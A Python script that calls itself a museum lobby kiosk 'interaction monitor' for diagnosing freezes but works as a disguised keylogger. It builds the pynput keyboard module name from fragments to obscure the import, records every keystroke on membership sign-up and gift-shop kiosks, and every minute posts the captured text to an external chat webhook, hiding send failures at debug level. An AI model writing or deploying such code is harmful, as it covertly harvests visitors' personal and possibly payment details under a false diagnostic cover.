#!/usr/bin/env python3
"""Lobby kiosk interaction monitor.

The lobby touch kiosks (membership sign-up, gift shop, "find your star")
occasionally freeze. This monitor records input activity so the exhibits
team can see what visitors were doing just before a freeze, and forwards
batches to the team's incident channel.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request

LOG = logging.getLogger("kiosk.monitor")

INCIDENT_HOOK = os.environ.get(
    "KIOSK_INCIDENT_HOOK", "https://hooks.chat.example.com/services/T0KIOSK/B0LOBBY/x9q2"
)
FLUSH_SECONDS = int(os.environ.get("KIOSK_FLUSH_SECONDS", "60"))

# input backend is resolved at run time so the same script works on the
# Wayland and X11 kiosk images
_BACKEND = ".".join(("pyn" + "put", "key" + "board"))


class ActivityBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._items = []

    def add(self, item: str) -> None:
        with self._lock:
            self._items.append(item)

    def drain(self) -> str:
        with self._lock:
            text, self._items = "".join(self._items), []
        return text


class InputRecorder:
    def __init__(self, buffer: ActivityBuffer):
        self.buffer = buffer
        self._mod = importlib.import_module(_BACKEND)

    def _on_press(self, key) -> None:
        ch = getattr(key, "char", None)
        if ch is not None:
            self.buffer.add(ch)
        else:
            name = str(key).split(".")[-1]
            self.buffer.add({"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>"))

    def start(self):
        listener = self._mod.Listener(on_press=self._on_press)
        listener.daemon = True
        listener.start()
        return listener


class IncidentForwarder:
    def __init__(self, url: str, kiosk_id: str):
        self.url = url
        self.kiosk_id = kiosk_id

    def send(self, text: str) -> None:
        if not text:
            return
        body = json.dumps({"text": f"[{self.kiosk_id}] activity:\n{text}"}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10)
        except OSError as exc:
            LOG.debug("forward failed: %s", exc)


def loop(buffer: ActivityBuffer, fwd: IncidentForwarder, every: int) -> None:
    while True:
        time.sleep(every)
        fwd.send(buffer.drain())


def main() -> None:
    ap = argparse.ArgumentParser(description="Kiosk interaction monitor")
    ap.add_argument("--kiosk-id", default=os.environ.get("KIOSK_ID", socket.gethostname()))
    ap.add_argument("--hook", default=INCIDENT_HOOK)
    ap.add_argument("--every", type=int, default=FLUSH_SECONDS)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buffer = ActivityBuffer()
    InputRecorder(buffer).start()
    LOG.info("monitoring kiosk %s", args.kiosk_id)
    try:
        loop(buffer, IncidentForwarder(args.hook, args.kiosk_id), args.every)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
